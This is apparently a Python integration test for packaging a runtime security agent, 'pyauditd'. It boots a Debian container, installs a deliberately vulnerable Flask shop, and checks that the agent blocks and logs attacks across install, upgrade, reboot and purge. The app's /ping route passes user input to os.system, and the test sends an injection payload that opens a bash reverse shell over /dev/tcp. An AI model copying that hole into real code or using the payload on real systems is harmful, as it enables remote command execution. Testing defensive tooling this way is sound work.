@@ -1,0 +1,389 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""What tests/packages.sh does with a booted Debian: packages.py DIRECTORY. Everything is asked for from outside:
+HTTP, the journal's files, the directory of the system; inside run only the commands of an administrator."""
+import hashlib
+import json
+import os
+import pathlib
+import re
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.parse
+import urllib.request
+
+NSPAWN = ["systemd-nspawn", "--quiet", "--hostname=localhost", "--register=no", "--keep-unit", "--resolv-conf=off",
+          "--timezone=off", "--console=read-only", "-b", "-D"]
+UNIT = "shop.service"
+APP = """
+import os
+import flask
+
+app = flask.Flask("shop")
+
+@app.route("/")
+def index():
+    return "ok"
+
+@app.route("/ping")
+def ping():
+    return str(os.system("true " + flask.request.args["host"]))
+"""
+SERVICE = """
+[Unit]
+Description=A shop that was here before
+[Service]
+WorkingDirectory=/srv/shop
+ExecStart=/usr/bin/gunicorn --workers 2 --bind 127.0.0.1:%d shop:app
+User=www-data
+[Install]
+WantedBy=multi-user.target
+"""
+# What an installation may leave: the package manager's own memory, and what any boot writes.
+NOT_COMPARED = re.compile(r"^/(proc|sys|dev|run|tmp|var/tmp|root|var/log|var/cache|var/lib/(apt|dpkg|systemd|dbus|ucf)|"
+                          r"srv/shop/__pycache__|etc/(machine-id|\.updated|.*-|.*cache|hostname|mtab|resolv\.conf|subuid|subgid))(/|$)")
+EXPOSURE_MAX = 1.5
+
+
+class Failed(Exception):
+    pass
+
+
+class Host:
+    def __init__(self, root):
+        self.root = pathlib.Path(root).resolve()
+        self.port = free_port()
+        self.process = None
+
+    # The system
+
+    def boot(self):
+        self.log = open(str(self.root) + ".console", "wb")
+        self.process = subprocess.Popen(NSPAWN + [str(self.root)], stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
+        self.wait_for_boot()
+
+    def leader(self):
+        with open("/proc/%d/task/%d/children" % (self.process.pid, self.process.pid)) as children:
+            found = children.read().split()
+        return int(found[0]) if found else None
+
+    def wait_for_boot(self, other_than=None):
+        def is_up():
+            if self.process.poll() is not None:
+                raise Failed("systemd does not boot: " + pathlib.Path(self.log.name).read_text("utf-8", "replace")[-2000:])
+            leader = self.leader()
+            if leader is None or leader == other_than:
+                return False
+            state = self.run("systemctl", "is-system-running", check=False).stdout.strip()
+            return state in ("running", "degraded")
+        wait(is_up, "the system boots", 120)
+
+    def reboot(self):
+        before = self.leader()
+        self.run("systemctl", "reboot", check=False)
+        self.wait_for_boot(other_than=before)
+
+    def end(self):
+        if self.process is not None and self.process.poll() is None:
+            self.process.terminate()
+            try:
+                self.process.wait(30)
+            except subprocess.TimeoutExpired:
+                self.process.kill()
+                self.process.wait()
+
+    def run(self, *command, check=True):
+        inside = ["nsenter", "-t", str(self.leader()), "-m", "-u", "-i", "-p", "-r", "-w", "env", "-i",
+                  "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8",
+                  "DEBIAN_FRONTEND=noninteractive"]
+        done = subprocess.run(inside + list(command), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                              stderr=subprocess.STDOUT, timeout=300, universal_newlines=True)
+        if check and done.returncode:
+            raise Failed("%s: exit status %d\n%s" % (" ".join(command), done.returncode, done.stdout[-3000:]))
+        return done
+
+    def show(self, unit, name):
+        return self.run("systemctl", "show", "-P", name, unit).stdout.strip()
+
+    def path(self, name):
+        return self.root / name.lstrip("/")
+
+    def journal(self, *matches):
+        done = subprocess.run(["journalctl", "-D", str(self.path("/var/log/journal")), "-o", "json", "--no-pager", "-q"]
+                              + list(matches), stdout=subprocess.PIPE, universal_newlines=True, timeout=60)
+        return [json.loads(line) for line in done.stdout.splitlines()]
+
+    # The service
+
+    def get(self, what):
+        try:
+            with urllib.request.urlopen("http://127.0.0.1:%d%s" % (self.port, what), timeout=30) as answer:
+                return answer.status, answer.read().decode()
+        except urllib.error.HTTPError as error:
+            return error.code, ""
+        except OSError as error:
+            return 0, str(error)
+
+    def attack(self, number):
+        """A command injection: a file that says that it worked, then a shell over the network."""
+        host = "; touch /srv/shop/data/owned-%d; bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'" % number
+        status, _ = self.get("/ping?host=" + urllib.parse.quote(host))
+        return status, self.path("/srv/shop/data/owned-%d" % number).exists()
+
+    def alerts(self, number=None, *matches):
+        found = self.journal("-u", UNIT, "PYAUDIT_ACTION=block", *matches)
+        return [e for e in found if number is None or "owned-%d;" % number in e["MESSAGE"]]
+
+    def files(self):
+        found = {}
+        for folder, folders, names in os.walk(str(self.root)):
+            for name in folders + names:
+                path = os.path.join(folder, name)
+                shown = path[len(str(self.root)):]
+                if NOT_COMPARED.match(shown):
+                    continue
+                info = os.lstat(path)
+                content = ""
+                if os.path.islink(path):
+                    content = os.readlink(path)
+                elif os.path.isfile(path):
+                    content = hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()
+                found[shown] = (oct(info.st_mode), info.st_uid, info.st_gid, content)
+            folders[:] = [f for f in folders if not NOT_COMPARED.match(os.path.join(folder, f)[len(str(self.root)):])]
+        return found
+
+
+def free_port():
+    with socket.socket() as listening:
+        listening.bind(("127.0.0.1", 0))
+        return listening.getsockname()[1]
+
+
+def wait(condition, what, seconds=30):
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        got = condition()
+        if got:
+            return got
+        time.sleep(0.1)
+    raise Failed("waited in vain: " + what)
+
+
+def check(holds, what):
+    if not holds:
+        raise Failed(what)
+    print("ok: " + what, flush=True)
+
+
+def refused(host, number, when):
+    """The act is refused, the request fails, the service lives, the alert is in the journal of that unit."""
+    main_pid, restarts = host.show(UNIT, "MainPID"), host.show(UNIT, "NRestarts")
+    status, owned = host.attack(number)
+    check(status == 500 and not owned, "%s: the act is refused, the request fails with 500" % when)
+    check(host.get("/") == (200, "ok") and host.show(UNIT, "MainPID") == main_pid and host.show(UNIT, "NRestarts") == restarts,
+          "%s: the service lives, with the same main process" % when)
+    entry = wait(lambda: host.alerts(number), "the alert of attack %d" % number)[0]
+    check(entry["PYAUDIT_RULE"] == "reverse-shell" and entry["PYAUDIT_CALLER_FILE"] == "/srv/shop/shop.py" and
+          entry["PYAUDIT_UNIT"] == UNIT and entry["_UID"] == "0", "%s: journalctl -u %s has the alert" % (when, UNIT))
+
+
+class Traffic(threading.Thread):
+    """Attacks one after the other, each with a number, while something happens to the daemon."""
+
+    def __init__(self, host, first):
+        super().__init__(daemon=True)
+        self.host, self.first, self.answers, self.stopping = host, first, [], False
+
+    def run(self):
+        while not self.stopping:
+            self.answers.append(self.host.attack(self.first + len(self.answers)))
+            time.sleep(0.2)  # an alert with its stack takes some KiB of the ring's urgent lane
+
+    def __enter__(self):
+        self.start()
+        wait(lambda: len(self.answers) > 5, "traffic")
+        return self
+
+    def __exit__(self, *error):
+        enough = len(self.answers) + 5
+        if error[0] is None:
+            wait(lambda: len(self.answers) > enough, "traffic goes on")
+        self.stopping = True
+        self.join(60)
+        # What was recorded without a daemon stands in the agent's ring; it looks for the next one at an event, at most once
+        # a second. Each worker gets one.
+        time.sleep(1.5)
+        while error[0] is None and len(self.answers) < enough + 30:
+            self.answers.append(self.host.attack(self.first + len(self.answers)))
+
+    def check(self, when):
+        host, wanted = self.host, range(self.first, self.first + len(self.answers))
+        check(set(self.answers) == {(500, False)}, "%s: %d attacks meanwhile, each refused" % (when, len(self.answers)))
+
+        def missing():
+            told = {int(n) for e in host.alerts() for n in re.findall(r"owned-(\d+);", e["MESSAGE"])}
+            return [n for n in wanted if n not in told]
+        def lost():
+            return sum(int(e["PYAUDIT_LOST"]) for e in host.journal("MESSAGE_ID=f540f6c6d49c47e19e5e6004b27e0f43"))
+        try:
+            wait(lambda: not missing() or lost() >= len(missing()), "alerts")
+        except Failed:
+            check(False, "%s: of %d alerts these are missing, and %d were told as lost: %s" % (when, len(wanted), lost(), missing()))
+        check(True, "%s: of %d alerts %d are in the journal, the others were told as lost" % (when, len(wanted), len(wanted) - len(missing())))
+
+
+def prepare(host):
+    data = host.path("/srv/shop/data")
+    data.mkdir(parents=True)
+    os.chmod(str(data), 0o777)
+    host.path("/srv/shop/shop.py").write_text(APP)
+    host.path("/etc/systemd/system/" + UNIT).write_text(SERVICE % host.port)
+    host.path("/var/log/journal").mkdir(parents=True, exist_ok=True)
+    host.path("/etc/machine-id").write_text("")
+    wants = host.path("/etc/systemd/system/multi-user.target.wants")
+    wants.mkdir(parents=True, exist_ok=True)
+    (wants / UNIT).symlink_to("/etc/systemd/system/" + UNIT)
+
+
+def serves(host):
+    wait(lambda: host.get("/") == (200, "ok"), "the service answers", 60)
+
+
+def exposures(host):
+    for unit in ("pyauditd.service", "pyaudit-journal.service"):
+        said = host.run("systemd-analyze", "security", "--no-pager", unit, check=False).stdout
+        exposure = float(re.search(r"exposure level for \S+: ([0-9.]+)", said).group(1))
+        check(exposure <= EXPOSURE_MAX, "systemd-analyze security %s: %.1f" % (unit, exposure))
+    check(host.show("pyauditd", "User") == "pyaudit", "pyauditd runs as a user of its own")
+    check(host.show("pyauditd", "LogRateLimitIntervalUSec") in ("0", "infinity"), "journald does not limit it")
+
+
+def install(host):
+    host.run("apt-get", "-qq", "update")
+    started = time.monotonic()
+    host.run("apt-get", "-qq", "install", "-y", "/root/old/pyauditd.deb", "/root/old/libpyaudit-agent.deb")
+    host.run("systemctl", "enable", "--now", "pyauditd")
+    host.run("pyauditctl", "enable", "--restart", UNIT)
+    serves(host)
+    status, owned = host.attack(2)
+    wait(lambda: host.alerts(2), "the first alert")
+    seconds = time.monotonic() - started
+    check(status == 500 and not owned and seconds < 60,
+          "from installation to a watched, alerting service: three commands, %.1f s" % seconds)
+
+
+def upgrade(host):
+    main_pid, daemon = host.show(UNIT, "MainPID"), host.show("pyauditd", "MainPID")
+    with Traffic(host, 1000) as traffic:
+        host.run("apt-get", "-qq", "install", "-y", "/root/new/pyauditd.deb", "/root/new/libpyaudit-agent.deb")
+    check(host.show("pyauditd", "MainPID") != daemon, "the upgrade starts the new daemon")
+    check(host.show(UNIT, "MainPID") == main_pid, "the upgrade does not start the service anew")
+    traffic.check("upgrade")
+    with Traffic(host, 3000) as traffic:
+        host.run("systemctl", "restart", "pyauditd")
+        host.run("systemctl", "restart", "pyaudit-journal.service")
+    traffic.check("restart of both daemons")
+    with Traffic(host, 5000) as traffic:
+        host.run("systemctl", "reload", "pyauditd")
+    traffic.check("reload")
+
+
+def without_journald(host):
+    sockets = ["systemd-journald.socket", "systemd-journald-dev-log.socket", "systemd-journald-audit.socket"]
+    host.run("systemctl", "stop", "systemd-journald.service", *sockets, check=False)
+    host.run("systemctl", "restart", "pyauditd")
+    check(host.attack(20) == (500, False), "without journald: pyauditd starts, and the act is refused")
+    host.run("systemctl", "start", *sockets[:2], "systemd-journald.service")
+    wait(lambda: host.alerts(20), "the alert, when journald is there again")
+    check(True, "without journald: the alert is there when journald is")
+
+
+def watchdog(host):
+    """A daemon that is frozen is noticed and replaced."""
+    dropin = host.path("/run/systemd/system/pyauditd.service.d")
+    host.run("sh", "-c", "mkdir -p /run/systemd/system/pyauditd.service.d; "
+             "printf '[Service]\\nWatchdogSec=3\\n' >/run/systemd/system/pyauditd.service.d/watchdog.conf; "
+             "systemctl daemon-reload; systemctl restart pyauditd")
+    frozen = host.show("pyauditd", "MainPID")
+    host.run("kill", "-STOP", frozen)
+    wait(lambda: host.show("pyauditd", "MainPID") not in (frozen, "0") and
+         host.show("pyauditd", "ActiveState") == "active", "the watchdog replaces a frozen daemon", 60)
+    check(not dropin.exists(), "a frozen daemon is replaced by the watchdog")
+    host.run("sh", "-c", "rm -r /run/systemd/system/pyauditd.service.d; systemctl daemon-reload")
+
+
+def purge(host, before):
+    host.run("pyauditctl", "enable", "--restart", UNIT)
+    serves(host)
+    refused(host, 31, "enabled again")
+    host.run("pyauditctl", "enable", "--host")
+    host.run("pyauditctl", "activate", "/usr/bin/python3")
+    check(host.path("/etc/ld.so.preload").exists(), "the agent is also in front of the host, and in /usr/bin/python3")
+    host.run("apt-get", "-qq", "purge", "-y", "--autoremove", "pyauditd", "libpyaudit-agent")
+    host.run("systemctl", "restart", UNIT)
+    serves(host)
+    status, owned = host.attack(32)
+    check(status == 200 and owned, "after the purge nothing is refused")
+    for number in (1, 30, 32):
+        host.path("/srv/shop/data/owned-%d" % number).unlink()
+    after = host.files()
+    differ = sorted(name for name in set(before) | set(after) if before.get(name) != after.get(name))
+    for name in differ:
+        print("differs: %s: %s, then %s" % (name, before.get(name), after.get(name)))
+    check(not differ, "after the purge the file system is as it was (%d files compared)" % len(after))
+
+
+def story(host):
+    prepare(host)
+    host.boot()
+    serves(host)
+    status, owned = host.attack(1)
+    check(status == 200 and owned, "before: the service can be attacked")
+    before = {name: entry for name, entry in host.files().items() if not name.startswith("/srv/shop/data/")}
+    install(host)
+    refused(host, 3, "enabled")
+    check(host.journal("-u", "pyauditd", "PYAUDIT_EVENT=daemon.start"), "journalctl -u pyauditd tells of its start")
+    check("was denied an act" in host.run("journalctl", "-x", "--no-pager", "PYAUDIT_RULE=reverse-shell").stdout,
+          "journalctl -x explains the alert")
+    exposures(host)
+    upgrade(host)
+    without_journald(host)
+    watchdog(host)
+    host.reboot()
+    serves(host)
+    refused(host, 21, "after a reboot")
+    host.run("pyauditctl", "disable", UNIT)
+    host.run("systemctl", "restart", UNIT)
+    serves(host)
+    status, owned = host.attack(30)
+    check(status == 200 and owned, "disabled: nothing is refused")
+    check(not list(host.path("/etc/systemd/system").glob("shop.service.d*")), "disabled: no drop-in is left")
+    purge(host, before)
+
+
+def main():
+    host = Host(sys.argv[1])
+    try:
+        story(host)
+    except Failed as failure:
+        print("NOT OK: %s" % failure)
+        for command in (["systemctl", "--failed", "--no-pager"], ["systemctl", "status", "pyauditd", UNIT, "--no-pager", "-l"],
+                        ["journalctl", "-n", "80", "--no-pager"]):
+            try:
+                print(host.run(*command, check=False).stdout)
+            except (OSError, ValueError, subprocess.SubprocessError):
+                pass
+        return 1
+    finally:
+        host.end()
+    return 0
+
+
+if __name__ == "__main__":
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
+    sys.exit(main())
